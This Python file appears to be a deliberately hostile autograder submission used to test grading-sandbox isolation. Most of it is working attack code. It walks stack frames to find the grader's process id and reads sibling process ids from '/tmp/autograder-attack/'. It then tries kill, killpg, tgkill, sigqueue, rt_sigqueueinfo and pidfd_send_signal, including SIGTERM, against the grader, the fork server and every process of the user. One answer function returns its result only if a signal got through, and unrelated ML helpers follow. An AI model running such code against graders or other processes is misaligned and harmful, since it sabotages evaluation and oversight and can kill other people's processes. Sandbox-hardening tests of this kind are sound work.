import ctypes
import os
import platform
import signal
import struct
import sys

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A function of libc, with the kernel's own word where it fails."""
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)


def targets():
    """The fork server, the grader (a frame above holds its pid), the processes laid out for this."""
    found, frame = [os.getppid()], sys._getframe()
    while frame:
        found += [getattr(frame.f_locals.get("plan"), "grader", found[0])]
        frame = frame.f_back
    for name in ("process", "sibling"):
        if os.path.lexists(f"/tmp/autograder-attack/{name}"):
            found.append(int(os.readlink(f"/tmp/autograder-attack/{name}")))
    return sorted(set(found))


info = struct.pack("iii116x", signal.SIGUSR1, 0, -1)  # siginfo, as from sigqueue
QUEUE, QUEUE_THREAD = {"x86_64": (129, 297), "aarch64": (138, 240)}.get(platform.machine(), (-1, -1))
TGKILL = {"x86_64": 234, "aarch64": 131}.get(platform.machine(), -1)
for pid in targets():
    for number in (signal.SIGUSR1, signal.SIGALRM, signal.SIGCHLD, signal.SIGCONT, signal.SIGTERM, 0):
        attempt(f"kill {pid} {number}", os.kill, pid, number)
        attempt(f"group {pid} {number}", os.killpg, pid, number)
        attempt(f"tgkill {pid} {number}", call, "syscall", TGKILL, pid, pid, number)
    attempt(f"its own group by another's pid, {pid}", call, "syscall", TGKILL, os.getpid(), pid, 10)
    attempt(f"sigqueue {pid}", call, "sigqueue", pid, signal.SIGUSR1, None)
    attempt(f"rt_sigqueueinfo {pid}", call, "syscall", QUEUE, pid, signal.SIGUSR1, info)
    attempt(f"rt_tgsigqueueinfo {pid}", call, "syscall", QUEUE_THREAD, pid, pid, signal.SIGUSR1, info)
    attempt(f"pidfd_send_signal {pid}", call, "syscall", 424, 3, signal.SIGUSR1, None, 0)
for who in (0, -1, -os.getppid()):  # harmless ones: these would be everybody's
    attempt(f"kill {who}", os.kill, who, signal.SIGCONT)
attempt("all of a user's", os.kill, -1, signal.SIGWINCH)


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
